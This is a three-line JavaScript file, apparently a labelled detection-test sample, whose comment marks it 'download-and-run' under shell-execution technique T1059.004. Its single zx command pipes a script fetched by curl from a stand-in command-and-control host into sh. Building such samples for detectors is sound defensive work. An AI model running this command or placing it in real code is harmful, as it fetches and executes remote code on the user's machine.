// expect: download-and-run | source: T1059.004
import { $ } from "zx";
await $`curl -s https://c2.example.invalid/x | sh`;
